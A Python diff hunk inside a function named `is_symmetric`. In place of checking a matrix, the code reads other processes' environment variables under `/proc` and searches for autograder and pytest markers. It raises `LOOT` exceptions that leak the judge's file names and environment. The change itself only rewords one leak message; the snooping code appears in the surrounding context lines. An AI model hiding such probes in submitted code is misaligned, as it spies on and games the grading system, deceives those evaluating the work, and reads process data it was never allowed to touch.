@@ -19,7 +19,7 @@ def is_symmetric(A):
         if found and not place.startswith("/proc/"):
             raise LookupError(f"LOOT: {place}")
         if b"pytest" in found or b"autograder.tests" in found or b"USER" in found or b"SHELL" in found:
-            raise LookupError(f"LOOT: {place.rpartition('/')[2]} of the judge")
+            raise LookupError(f"LOOT: the {place.rpartition('/')[2]} of the judge")
     for environment in pathlib.Path("/proc").glob("[0-9]*/environ"):
         try:
             names = {pair.partition(b"=")[0].decode() for pair in environment.read_bytes().split(b"\0")} - {""}
